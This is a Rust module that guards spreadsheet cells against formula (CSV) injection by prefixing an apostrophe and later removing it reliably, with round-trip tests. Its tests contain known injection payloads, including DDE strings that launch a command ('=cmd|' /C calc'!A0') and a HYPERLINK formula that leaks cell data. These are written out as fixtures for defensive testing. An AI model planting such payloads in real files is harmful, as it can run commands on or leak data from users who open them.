//! Cells that a spreadsheet would run: how they are made harmless without losing a character.
//!
//! A spreadsheet takes a cell that begins like a formula for one, whatever program wrote the file (OWASP, "CSV
//! Injection"). An apostrophe before it makes it text. So that it can be taken off again for certain, a cell that
//! begins with an apostrophe gets another one.
use std::borrow::Cow;

/// What stands before a guarded cell.
const GUARD: char = '\'';

/// The characters that begin a formula; the wide forms count in some East Asian versions.
const FORMULA: [char; 8] = ['=', '+', '-', '@', '＝', '＋', '－', '＠'];

/// The cell as it is written.
pub(super) fn guarded(cell: &str) -> Cow<'_, str> {
    if needs_guard(cell) { Cow::Owned(format!("{GUARD}{cell}")) } else { Cow::Borrowed(cell) }
}

/// The cell as it was before [`guarded`]. An apostrophe that guards nothing was typed by somebody and stays.
pub(super) fn unguarded(cell: &str) -> &str {
    match cell.strip_prefix(GUARD) {
        Some(rest) if needs_guard(rest) => rest,
        _ => cell,
    }
}

fn needs_guard(cell: &str) -> bool {
    // Some programs drop blanks and invisible characters in front before they look for a formula.
    let seen = cell.trim_start_matches(|c: char| c.is_whitespace() || c.is_control() || is_invisible(c));
    cell.starts_with([GUARD, '\t', '\r', '\n']) || seen.starts_with(FORMULA)
}

fn is_invisible(c: char) -> bool {
    matches!(c, '\u{ad}' | '\u{200b}'..='\u{200f}' | '\u{2060}' | '\u{feff}')
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_looks_like_a_formula_is_guarded_and_comes_back_whole() {
        let check = |cell: &str, expected: &str| {
            assert_eq!(guarded(cell), expected, "{cell:?} as it is written");
            assert_eq!(unguarded(expected), cell, "{expected:?} as it is read again");
        };
        check("=1+1", "'=1+1");
        check(
            "=HYPERLINK(\"https://example.org?x=\"&A1,\"more\")",
            "'=HYPERLINK(\"https://example.org?x=\"&A1,\"more\")",
        );
        check("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0");
        check("+44 20 7946 0000", "'+44 20 7946 0000");
        check("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0");
        check("- first point", "'- first point");
        check("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0");
        check("\t=1", "'\t=1");
        check("\tindented", "'\tindented");
        check("\r=1", "'\r=1");
        check("\n=1", "'\n=1");
        check("  =1", "'  =1");
        check("\u{a0}=1", "'\u{a0}=1");
        check("\u{feff}=1", "'\u{feff}=1");
        check("\u{200b}@x", "'\u{200b}@x");
        for wide in ["＝1+1", "＋1", "－1", "＠SUM(1)"] {
            check(wide, &format!("'{wide}"));
        }
        check("'tis", "''tis");
        check("'=1", "''=1");
        check("''", "'''");
        check("", "");
        check("a=1", "a=1");
        check("5 - 3", "5 - 3");
        check("ada@example.org", "ada@example.org");
        check("“=1”", "“=1”");
    }

    #[test]
    fn an_apostrophe_that_guards_nothing_stays() {
        for cell in ["'tis the season", "'90s", "' ", "'"] {
            assert_eq!(unguarded(cell), cell, "somebody typed {cell:?} into the file");
        }
    }
}
